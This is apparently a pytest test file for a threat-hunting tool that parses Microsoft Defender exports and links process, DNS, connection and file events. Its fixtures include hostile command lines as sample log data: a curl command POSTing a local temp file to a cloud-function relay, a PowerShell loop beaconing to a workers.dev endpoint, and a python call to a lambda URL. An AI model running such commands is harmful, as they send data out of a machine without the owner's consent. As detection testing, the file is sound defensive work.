from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import pytest

from relayhunt.sources.base import Head
from relayhunt.sources.defender import (
    DefenderCsvSource,
    DefenderJsonSource,
    split_csv_records,
    table_hint,
)
from relayhunt.store import Store
from tests.conftest import FIXTURES, event_counts, load, rows, skipped_counts

CASE = FIXTURES / "defender"
DEV = "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678"
EXPLORER = f"{DEV}:4120:1793692721556201"
CMD = f"{DEV}:6044:1793700902118441"
CURL1 = f"{DEV}:7312:1793700902331720"
CURL2 = f"{DEV}:7420:1793700963091287"
MSEDGE = f"{DEV}:8800:1793696530440122"
PYTHON = f"{DEV}:5532:1793696412250883"
CF_HOST = "us-central1-acme-build-cache.cloudfunctions.net"
CURL_CMD = (
    "curl.exe  -s -X POST https://us-central1-acme-build-cache.cloudfunctions.net/relay "
    "-d @C:\\Users\\bob\\AppData\\Local\\Temp\\s.txt"
)


def _issues(s: Store) -> list[tuple[Any, ...]]:
    return s.con.execute(
        "SELECT log_line, log_record, severity, reason_code FROM ingest_issues "
        "ORDER BY log_record NULLS FIRST, log_line NULLS FIRST, reason_code"
    ).fetchall()


# -- portal CSV export, one file per table ------------------------------------------------


@pytest.fixture(scope="module")
def per_table() -> Store:
    return load(CASE / "csv_per_table_file")


def test_per_table_csv_counts_and_skips(per_table: Store) -> None:
    assert event_counts(per_table) == {"process": 4, "dns": 2, "connection": 6, "file": 2}
    assert skipped_counts(per_table) == {
        "defender:DeviceEvents:PowerShellCommand": 1,
        "defender:DeviceEvents:ScheduledTaskCreated": 1,
        "defender:DeviceFileEvents:FileDeleted": 1,
        "defender:DeviceNetworkEvents:ListeningConnectionCreated": 1,
        "defender:DeviceNetworkEvents:SslConnectionInspected": 1,
    }
    assert per_table.count("ingest_issues") == 0
    formats = {r["log_format"] for r in rows(per_table, "SELECT log_format FROM ingest_files")}
    assert formats == {"defender.csv"}


def test_per_table_csv_process_row(per_table: Store) -> None:
    (p,) = rows(per_table, "SELECT * FROM process WHERE process_pid = 7312")
    assert p["timestamp"] == dt.datetime(2026, 11, 3, 10, 15, 2, 334550)
    assert p["event_action"] == "ProcessCreated"
    assert p["event_id"] == "40215"
    assert p["host_name"] == "ws-eng-12.corp.example"
    assert p["host_id"] == DEV
    assert (p["user_name"], p["user_domain"]) == ("bob", "corp")
    assert p["process_entity_id"] == CURL1
    assert p["process_executable"] == "C:\\Windows\\System32\\curl.exe"
    assert p["process_name"] == "curl.exe"
    assert p["process_command_line"] == CURL_CMD
    assert p["process_start"] == dt.datetime(2026, 11, 3, 10, 15, 2, 331720)
    assert p["process_parent_entity_id"] == CMD
    assert p["process_parent_pid"] == 6044
    assert p["process_parent_name"] == "cmd.exe"
    assert p["process_parent_executable"] == "c:\\windows\\system32\\cmd.exe"
    assert p["process_parent_command_line"].startswith('cmd.exe /c "for /l %i in (1,1,4) do')
    assert p["process_hash_sha256"] == (
        "2cd7b8e5e0b1f8a3d9c4e7b2a6f5d0c9b8a7e6f5d4c3b2a1f0e9d8c7b6a5f4e3"
    )
    assert p["process_integrity_level"] == "Medium"
    assert p["log_format"] == "defender.csv"
    assert p["log_file_path"].endswith("csv_per_table_file/DeviceProcessEvents.csv")
    assert (p["log_line"], p["log_record"]) == (3, 2)


def test_per_table_csv_entity_ids_link_across_tables(per_table: Store) -> None:
    linked = rows(
        per_table,
        "SELECT c.event_action, p.process_name, p.process_command_line, c.destination_domain "
        "FROM connection c JOIN process p USING (process_entity_id) ORDER BY c.timestamp",
    )
    assert linked == [
        {
            "event_action": "ConnectionSuccess",
            "process_name": "msedge.exe",
            "process_command_line": '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application'
            '\\msedge.exe" --single-argument https://acme-portal.vercel.app/dashboard',
            "destination_domain": "acme-portal.vercel.app",
        },
        {
            "event_action": "ConnectionSuccess",
            "process_name": "curl.exe",
            "process_command_line": CURL_CMD,
            "destination_domain": CF_HOST,
        },
        {
            "event_action": "ConnectionSuccess",
            "process_name": "curl.exe",
            "process_command_line": CURL_CMD,
            "destination_domain": CF_HOST,
        },
        {
            "event_action": "ConnectionFailed",
            "process_name": "curl.exe",
            "process_command_line": CURL_CMD,
            "destination_domain": None,
        },
    ]
    # The DNS answer and the file write attach to the same processes.
    dns_procs = rows(per_table, "SELECT process_entity_id FROM dns ORDER BY timestamp")
    assert dns_procs == [{"process_entity_id": MSEDGE}, {"process_entity_id": CURL1}]
    (f,) = rows(per_table, "SELECT process_entity_id FROM file WHERE file_name = 's.txt'")
    assert f["process_entity_id"] == CMD


@pytest.mark.parametrize(
    ("record", "expected"),
    [
        pytest.param(
            1,
            {
                "event_action": "ConnectionSuccess",
                "event_outcome": "success",
                "source_ip": "10.20.31.52",
                "source_port": 51544,
                "destination_ip": "216.239.36.54",
                "destination_port": 443,
                "destination_domain": CF_HOST,
                "destination_domain_origin": "url",
                "url_original": None,
                "network_transport": "tcp",
                "network_direction": "egress",
                "process_entity_id": CURL1,
                "process_parent_entity_id": CMD,
                "log_line": 2,
            },
            id="bare-host-remote-url",
        ),
        pytest.param(
            3,
            {
                "event_action": "ConnectionSuccess",
                "event_outcome": "success",
                "source_ip": "10.20.31.52",
                "source_port": 51320,
                "destination_ip": "76.76.21.21",
                "destination_port": 443,
                "destination_domain": "acme-portal.vercel.app",
                "destination_domain_origin": "url",
                "url_original": "https://acme-portal.vercel.app/dashboard",
                "network_transport": "tcp",
                "network_direction": "egress",
                "process_entity_id": MSEDGE,
                "process_parent_entity_id": EXPLORER,
                "log_line": 4,
            },
            id="url-remote-url",
        ),
        pytest.param(
            5,
            {
                "event_action": "InboundConnectionAccepted",
                "event_outcome": "success",
                "source_ip": "10.20.5.17",
                "source_port": 51234,
                "destination_ip": "10.20.31.52",
                "destination_port": 445,
                "destination_domain": None,
                "destination_domain_origin": None,
                "url_original": None,
                "network_transport": "tcp",
                "network_direction": "ingress",
                "process_entity_id": f"{DEV}:1772:1793692678612093",
                "process_parent_entity_id": f"{DEV}:1152:1793692677969847",
                "log_line": 6,
            },
            id="inbound-swapped",
        ),
        pytest.param(
            6,
            {
                "event_action": "ConnectionFailed",
                "event_outcome": "failure",
                "source_ip": "fd00:20:31::52",
                "source_port": 51573,
                "destination_ip": "2001:4860:4802:32::36",
                "destination_port": 443,
                "destination_domain": None,
                "destination_domain_origin": None,
                "url_original": None,
                "network_transport": "tcp",
                "network_direction": "egress",
                "process_entity_id": CURL2,
                "process_parent_entity_id": CMD,
                "log_line": 7,
            },
            id="failed-ipv6",
        ),
    ],
)
def test_per_table_csv_connections(per_table: Store, record: int, expected: dict[str, Any]) -> None:
    (c,) = rows(
        per_table,
        f"SELECT {', '.join(expected)} FROM connection WHERE log_record = ?",
        record,
    )
    assert c == expected


def test_per_table_csv_dns_and_file(per_table: Store) -> None:
    (d,) = rows(per_table, "SELECT * FROM dns WHERE process_entity_id = ?", MSEDGE)
    assert d["timestamp"] == dt.datetime(2026, 11, 3, 9, 2, 10, 905127)
    assert d["dns_question_name"] == "acme-portal.vercel.app"
    assert d["dns_resolved_ip"] == ["76.76.21.21"]
    assert d["dns_answers"] == (
        '[{"DnsQueryType":"CNAME","Result":"cname.vercel-dns.com"},'
        '{"DnsQueryType":"A","Result":"76.76.21.21"}]'
    )
    assert d["event_action"] == "DnsQueryResponse"
    assert (d["log_line"], d["log_record"]) == (3, 2)
    (f,) = rows(per_table, "SELECT * FROM file WHERE process_entity_id = ?", MSEDGE)
    assert f["event_action"] == "FileCreated"
    assert f["file_path"] == "C:\\Users\\bob\\Downloads\\report.pdf"
    assert (f["file_name"], f["file_extension"]) == ("report.pdf", "pdf")
    assert f["file_hash_sha256"] == (
        "8d2f6a1b3c5e7d9f0a2b4c6e8f1a3b5c7d9e0f2a4b6c8d1e3f5a7b9c0d2e4f6a"
    )


# -- CSV quoting, line numbers, union exports ---------------------------------------------


@pytest.mark.parametrize(
    ("record", "line", "pid", "command_line"),
    [
        pytest.param(
            1,
            2,
            9120,
            "powershell.exe -NoProfile -Command \"$u = 'https://sync-api.acme-cdn.workers.dev/poll'"
            '\nwhile ($true) {\n  Invoke-WebRequest -Uri $u -Method POST -Body \\"id=7,ok\\" '
            '| Out-Null\n  Start-Sleep -Seconds 60\n}"',
            id="newlines-quotes-commas",
        ),
        pytest.param(2, 7, 7508, CURL_CMD, id="after-a-five-line-row"),
        pytest.param(
            3,
            8,
            9188,
            "python.exe -c \"import urllib.request as u\r\nu.urlopen('"
            "https://abcdefghij1234567890klmnopqrstuv.lambda-url.us-east-1.on.aws/')\"",
            id="crlf-inside-field",
        ),
    ],
)
def test_multiline_command_lines(record: int, line: int, pid: int, command_line: str) -> None:
    s = load(CASE / "csv_multiline_commandline")
    (p,) = rows(
        s,
        "SELECT log_line, process_pid, process_command_line FROM process WHERE log_record = ?",
        record,
    )
    assert p == {"log_line": line, "process_pid": pid, "process_command_line": command_line}
    assert s.count("ingest_issues") == 0


def test_union_export_infers_tables_from_action_type() -> None:
    s = load(CASE / "union_export_csv")
    assert event_counts(s) == {"process": 1, "dns": 1, "connection": 1, "file": 1}
    assert skipped_counts(s) == {
        "defender:DeviceEvents:AntivirusDetection": 1,
        "defender:DeviceLogonEvents:LogonSuccess": 1,
    }
    got = rows(
        s,
        "SELECT 'process' AS t, event_id, log_line FROM process UNION ALL "
        "SELECT 'connection', event_id, log_line FROM connection UNION ALL "
        "SELECT 'dns', event_id, log_line FROM dns UNION ALL "
        "SELECT 'file', event_id, log_line FROM file ORDER BY log_line",
    )
    assert got == [
        {"t": "process", "event_id": "40215", "log_line": 2},  # ReportId_long
        {"t": "connection", "event_id": "40219", "log_line": 3},
        {"t": "dns", "event_id": "40217", "log_line": 4},
        {"t": "file", "event_id": "40213", "log_line": 5},
    ]
    assert s.count("ingest_issues") == 0


def test_bad_rows_are_located() -> None:
    s = load(CASE / "bad_rows")
    assert _issues(s) == [
        (3, 2, "error", "invalid_csv"),
        (4, 3, "error", "invalid_csv"),
        (5, 4, "error", "missing_timestamp"),
        (6, 5, "warning", "bad_field_type"),
        (8, 7, "error", "invalid_csv"),
    ]
    reasons = dict(s.con.execute("SELECT log_record, reason FROM ingest_issues").fetchall())
    assert "TOO MANY COLUMNS" in reasons[2]
    assert "MISSING COLUMNS" in reasons[3]
    assert "unterminated quote" in reasons[7]
    assert reasons[5].endswith("source_port=N/A")
    kept = rows(s, "SELECT log_record, log_line, source_port FROM connection ORDER BY 1")
    assert kept == [
        {"log_record": 1, "log_line": 2, "source_port": 51544},
        {"log_record": 5, "log_line": 6, "source_port": None},
        {"log_record": 6, "log_line": 7, "source_port": 51544},
    ]
    (f,) = rows(s, "SELECT records_seen FROM ingest_files")
    assert f["records_seen"] == 7


def test_invalid_encoding_row_is_rejected_with_its_line() -> None:
    s = load(CASE / "invalid_encoding")
    assert _issues(s) == [(3, 2, "error", "invalid_csv")]
    (reason,) = s.con.execute("SELECT reason FROM ingest_issues").fetchone()
    assert "INVALID ENCODING" in reason
    kept = rows(s, "SELECT log_record, log_line, process_pid FROM process ORDER BY 1")
    assert kept == [
        {"log_record": 1, "log_line": 2, "process_pid": 7312},
        {"log_record": 3, "log_line": 4, "process_pid": 7508},
    ]


def test_truncated_gzip_csv() -> None:
    s = load(CASE / "truncated_gzip_csv")
    assert _issues(s) == [
        (None, None, "error", "truncated_gzip"),
        (5, 4, "error", "invalid_csv"),
    ]
    kept = rows(s, "SELECT log_record, log_line, process_pid FROM connection ORDER BY 1")
    assert kept == [
        {"log_record": 1, "log_line": 2, "process_pid": 7312},
        {"log_record": 2, "log_line": 3, "process_pid": 7420},
        {"log_record": 3, "log_line": 4, "process_pid": 8800},
    ]


# -- JSON forms ---------------------------------------------------------------------------


def test_sentinel_export_with_type_column() -> None:
    s = load(CASE / "json_with_type_column")
    assert event_counts(s) == {"process": 2, "dns": 1, "connection": 4, "file": 1}
    assert skipped_counts(s) == {
        "defender:DeviceEvents:PowerShellCommand": 1,
        "defender:DeviceLogonEvents:LogonSuccess": 1,
        "defender:DeviceNetworkEvents:SslConnectionInspected": 1,
        "defender:DeviceRegistryEvents:RegistryValueSet": 1,
    }
    assert s.count("ingest_issues") == 0
    (c,) = rows(s, "SELECT * FROM connection WHERE log_line = 3")
    assert c["log_format"] == "defender.json"
    assert c["log_record"] is None
    assert c["process_entity_id"] == CURL1
    assert c["destination_port"] == 443  # a JSON number
    assert c["destination_domain"] == CF_HOST
    assert c["timestamp"] == dt.datetime(2026, 11, 3, 10, 15, 2, 560177)
    (p,) = rows(s, "SELECT process_entity_id, log_line FROM process WHERE process_pid = 7312")
    assert p == {"process_entity_id": CURL1, "log_line": 2}


def test_streaming_event_hub_message() -> None:
    s = load(CASE / "streaming_api" / "event_hub_message.json")
    got = rows(
        s,
        "SELECT 'process' AS t, log_record, process_entity_id FROM process UNION ALL "
        "SELECT 'connection', log_record, process_entity_id FROM connection UNION ALL "
        "SELECT 'file', log_record, process_entity_id FROM file UNION ALL "
        "SELECT 'dns', log_record, process_entity_id FROM dns ORDER BY log_record",
    )
    assert got == [
        {"t": "process", "log_record": 1, "process_entity_id": MSEDGE},
        {"t": "connection", "log_record": 2, "process_entity_id": MSEDGE},
        {"t": "file", "log_record": 3, "process_entity_id": MSEDGE},
        {"t": "dns", "log_record": 4, "process_entity_id": MSEDGE},
    ]
    (d,) = rows(s, "SELECT dns_question_name, dns_resolved_ip, log_line FROM dns")
    assert d == {
        "dns_question_name": "acme-portal.vercel.app",
        "dns_resolved_ip": ["76.76.21.21"],
        "log_line": None,
    }
    assert s.count("ingest_issues") == 0


def test_streaming_storage_blob_lines() -> None:
    s = load(CASE / "streaming_api" / "insights-logs-advancedhunting-devicenetworkevents")
    assert event_counts(s) == {"process": 0, "dns": 0, "connection": 2, "file": 0}
    assert skipped_counts(s) == {"defender:DeviceNetworkEvents:SslConnectionInspected": 1}
    got = rows(s, "SELECT log_line, process_entity_id FROM connection ORDER BY log_line")
    assert got == [
        {"log_line": 1, "process_entity_id": CURL1},
        {"log_line": 2, "process_entity_id": CURL2},
    ]


def test_api_results_document() -> None:
    s = load(CASE / "api_results")
    got = rows(
        s,
        "SELECT log_record, log_line, destination_domain, process_entity_id FROM connection "
        "ORDER BY log_record",
    )
    assert got == [
        {
            "log_record": 1,
            "log_line": None,
            "destination_domain": CF_HOST,
            "process_entity_id": CURL1,
        },
        {
            "log_record": 2,
            "log_line": None,
            "destination_domain": CF_HOST,
            "process_entity_id": CURL2,
        },
        {
            "log_record": 3,
            "log_line": None,
            "destination_domain": "acme-portal.vercel.app",
            "process_entity_id": MSEDGE,
        },
    ]


@pytest.mark.parametrize(
    ("line", "name", "resolved", "process"),
    [
        pytest.param(
            1,
            CF_HOST,
            ["216.239.36.54", "216.239.38.54", "216.239.32.54", "216.239.34.54"],
            CURL1,
            id="result-list",
        ),
        pytest.param(
            2,
            "abcdefghij1234567890klmnopqrstuv.lambda-url.us-east-1.on.aws",
            ["3.213.41.187", "52.44.19.205"],
            PYTHON,
            id="result-list-as-string",
        ),
        pytest.param(3, "wpad.corp.example", None, PYTHON, id="no-answer"),
        pytest.param(
            4,
            "g.live.com",
            ["2620:1ec:21::14", "13.107.42.12"],
            f"{DEV}:5100:1793692742001664",
            id="cname-aaaa-a-object-fields",
        ),
        pytest.param(5, None, None, f"{DEV}:5100:1793692742001664", id="unreadable-fields"),
    ],
)
def test_dns_query_response(
    line: int, name: str | None, resolved: list[str] | None, process: str
) -> None:
    s = load(CASE / "dns_query_response")
    (d,) = rows(
        s,
        "SELECT dns_question_name, dns_resolved_ip, process_entity_id FROM dns WHERE log_line = ?",
        line,
    )
    assert d == {
        "dns_question_name": name,
        "dns_resolved_ip": resolved,
        "process_entity_id": process,
    }


def test_dns_query_response_issues() -> None:
    s = load(CASE / "dns_query_response")
    assert _issues(s) == [
        (5, None, "warning", "bad_field_type"),
        (6, None, "error", "missing_timestamp"),
    ]
    (reason,) = s.con.execute("SELECT reason FROM ingest_issues WHERE log_line = 5").fetchone()
    assert reason.endswith("AdditionalFields={DnsQueryString: oops")


# -- shapes seen in real exports ----------------------------------------------------------

OPS = "f0e1d2c3b4a5968778695a4b3c2d1e0f00112233"


@pytest.fixture(scope="module")
def dns_client() -> Store:
    return load(CASE / "dns_client_process")


def test_dns_client_process_counts(dns_client: Store) -> None:
    assert event_counts(dns_client) == {"process": 0, "dns": 3, "connection": 0, "file": 0}
    assert dns_client.count("ingest_issues") == 0


def test_dns_names_the_client_process_not_the_dns_service(dns_client: Store) -> None:
    # The DNS client service (svchost.exe) is InitiatingProcess*; AdditionalFields names the
    # process that asked. Its creation time is not given: no entity id, and the service's
    # user, command line and parent are not carried over.
    got = rows(
        dns_client,
        "SELECT log_line, process_pid, process_name, process_entity_id, process_executable, "
        "process_command_line, user_name, user_domain, process_parent_pid, process_parent_name, "
        "process_parent_entity_id FROM dns ORDER BY log_line",
    )
    service_blank = {
        "process_entity_id": None,
        "process_executable": None,
        "process_command_line": None,
        "user_name": None,
        "user_domain": None,
        "process_parent_pid": None,
        "process_parent_name": None,
        "process_parent_entity_id": None,
    }
    assert got == [
        {"log_line": 2, "process_pid": 7344, "process_name": "powershell.exe", **service_blank},
        {"log_line": 3, "process_pid": 6120, "process_name": "VendorAgent.exe", **service_blank},
        {
            "log_line": 4,
            "process_pid": 8830,
            "process_name": "curl.exe",
            "process_entity_id": f"{OPS}:8830:1793868123401726",
            "process_executable": "c:\\windows\\system32\\curl.exe",
            "process_command_line": "curl.exe -s https://sync.acme-sync.workers.dev/p",
            "user_name": "dana",
            "user_domain": "corp",
            "process_parent_pid": 7344,
            "process_parent_name": "powershell.exe",
            "process_parent_entity_id": f"{OPS}:7344:1793868055660413",
        },
    ]


def test_dns_results_given_as_json_strings(dns_client: Store) -> None:
    # Portal exports give each DnsQueryResult item as a string holding the JSON object.
    got = rows(
        dns_client,
        "SELECT dns_question_name, dns_resolved_ip, dns_answers FROM dns ORDER BY log_line",
    )
    assert [(r["dns_question_name"], r["dns_resolved_ip"]) for r in got] == [
        ("relay-7f3a.acme-sync.workers.dev", ["104.21.48.112", "172.67.155.20"]),
        ("telemetry.vendor-app.example", None),
        ("sync.acme-sync.workers.dev", ["104.21.48.112", "2606:4700:3031::6815:3070"]),
    ]
    assert got[1]["dns_answers"] == (
        '["{\\"DnsQueryType\\":\\"CNAME\\",\\"Result\\":\\"edge.vendor-app.example\\"}",'
        '"{\\"DnsQueryType\\":\\"SOA\\",\\"Result\\":\\"ns1.vendor-dns.example\\"}"]'
    )


@pytest.fixture(scope="module")
def four_to_six() -> Store:
    return load(CASE / "four_to_six_mapping")


def test_four_to_six_mapped_addresses_are_ipv4(four_to_six: Store) -> None:
    assert event_counts(four_to_six) == {"process": 0, "dns": 0, "connection": 3, "file": 0}
    assert four_to_six.count("ingest_issues") == 0
    got = rows(
        four_to_six,
        "SELECT source_ip, source_port, destination_ip, destination_port, network_direction, "
        "destination_domain FROM connection ORDER BY log_line",
    )
    assert got == [
        {
            "source_ip": "198.51.100.23",
            "source_port": 51544,
            "destination_ip": "10.20.31.47",
            "destination_port": 445,
            "network_direction": "ingress",
            "destination_domain": None,
        },
        {
            "source_ip": "10.20.31.47",
            "source_port": 50712,
            "destination_ip": "203.0.113.80",
            "destination_port": 443,
            "network_direction": "egress",
            "destination_domain": "portal.acme.example",
        },
        {
            "source_ip": "2001:db8:a::31",
            "source_port": 50719,
            "destination_ip": "2001:db8:4::17",
            "destination_port": 443,
            "network_direction": "egress",
            "destination_domain": None,
        },
    ]


def test_kernel_process_keeps_its_image_path(four_to_six: Store) -> None:
    # The kernel's rows name the process 'System' and give ntoskrnl.exe as its image path:
    # FileName is not appended to a FolderPath that already names an image.
    (c,) = rows(
        four_to_six,
        "SELECT process_name, process_executable, process_pid, process_entity_id, "
        "process_parent_pid, process_parent_entity_id FROM connection WHERE log_line = 2",
    )
    assert c == {
        "process_name": "System",
        "process_executable": "c:\\windows\\system32\\ntoskrnl.exe",
        "process_pid": 4,
        "process_entity_id": f"{OPS}:4:1793862118220441",
        "process_parent_pid": None,
        "process_parent_entity_id": None,
    }
    (edge,) = rows(
        four_to_six,
        "SELECT process_executable, process_parent_entity_id FROM connection WHERE log_line = 3",
    )
    assert edge == {
        "process_executable": "c:\\program files (x86)\\microsoft\\edge\\application\\msedge.exe",
        "process_parent_entity_id": f"{OPS}:9012:1793865729991773",
    }


# -- sniffing and helpers -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "csv_ok", "json_ok"),
    [
        pytest.param(
            "Timestamp,DeviceId,DeviceName,ActionType,RemoteIP\r\n", True, False, id="portal-csv"
        ),
        pytest.param(
            "\ufeffTimestamp,DeviceId,DeviceName,ActionType\n", True, False, id="csv-with-bom"
        ),
        pytest.param(
            'TenantId,"TimeGenerated [UTC]",DeviceName,ActionType\n', True, False, id="la-header"
        ),
        pytest.param("Timestamp,Computer,EventID\n", False, False, id="other-csv"),
        pytest.param(
            '{"Timestamp":"2026-11-03T10:15:02.5601774Z","DeviceId":"a","ActionType":"X"}\n',
            False,
            True,
            id="row-json",
        ),
        pytest.param(
            '{"time":"t","category":"AdvancedHunting-DeviceEvents","properties":{}}\n',
            False,
            True,
            id="streaming-record",
        ),
        pytest.param(
            '{"Schema":[],"Results":[{"Timestamp":"t","DeviceName":"d","ActionType":"A"}]}',
            False,
            True,
            id="api-response",
        ),
        pytest.param('{"event_simpleName":"DnsRequest","aid":"x"}\n', False, False, id="falcon"),
    ],
)
def test_sniff(text: str, csv_ok: bool, json_ok: bool) -> None:
    head = Head("x", text.encode())
    assert DefenderCsvSource().sniff(head) is csv_ok
    assert DefenderJsonSource().sniff(head) is json_ok


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        pytest.param("exports/DeviceNetworkEvents.csv", "DeviceNetworkEvents", id="file-name"),
        pytest.param("DeviceEvents_2026-11-03.csv.gz", "DeviceEvents", id="prefix"),
        pytest.param(
            "c/insights-logs-advancedhunting-devicefileevents/y=2026/m=11/PT1H.json",
            "DeviceFileEvents",
            id="streaming-container",
        ),
        pytest.param("DeviceEvents/DeviceNetworkEvents.csv", "DeviceNetworkEvents", id="nearest"),
        pytest.param("C:\\exports\\DeviceProcessEvents.csv", "DeviceProcessEvents", id="windows"),
        pytest.param("hunting_results.csv", None, id="none"),
    ],
)
def test_table_hint(path: str, expected: str | None) -> None:
    assert table_hint(path) == expected


@pytest.mark.parametrize(
    ("data", "starts", "lines", "blank"),
    [
        pytest.param(b"h\na\nb\n", [0, 2, 4], [1, 2, 3], [False, False, False], id="plain"),
        pytest.param(
            b'h\n"x\ny",1\nb\n', [0, 2, 10], [1, 2, 4], [False, False, False], id="quoted-newline"
        ),
        pytest.param(
            b'h\n"a ""q\nx""",1\nb', [0, 2, 16], [1, 2, 4], [False, False, False], id="escaped"
        ),
        pytest.param(
            b"h\r\n\r\na\r\n", [0, 3, 5], [1, 2, 3], [False, True, False], id="crlf-blank"
        ),
        pytest.param(
            b"h\n\n\na\n", [0, 2, 3, 4], [1, 2, 3, 4], [False, True, True, False], id="blank"
        ),
    ],
)
def test_split_csv_records(
    tmp_path: Path, data: bytes, starts: list[int], lines: list[int], blank: list[bool]
) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(data)
    split = split_csv_records(path, block=4)  # tiny blocks: quotes span block boundaries
    assert split.starts.tolist() == starts
    assert split.lines.tolist() == lines
    assert split.blank.tolist() == blank


# -- the bundled sample -------------------------------------------------------------------


def test_bundled_sample_reads_cleanly() -> None:
    sample = FIXTURES.parent.parent / "src" / "relayhunt" / "samples" / "defender"
    s = load(sample)
    assert event_counts(s) == {"process": 7, "dns": 29, "connection": 69, "file": 2}
    assert s.count("ingest_issues") == 0
    curls = rows(
        s,
        "SELECT p.process_parent_name, c.destination_domain FROM connection c "
        "JOIN process p USING (process_entity_id) WHERE p.process_name = 'curl.exe' "
        "ORDER BY c.timestamp",
    )
    assert curls == [{"process_parent_name": "cmd.exe", "destination_domain": CF_HOST}] * 4
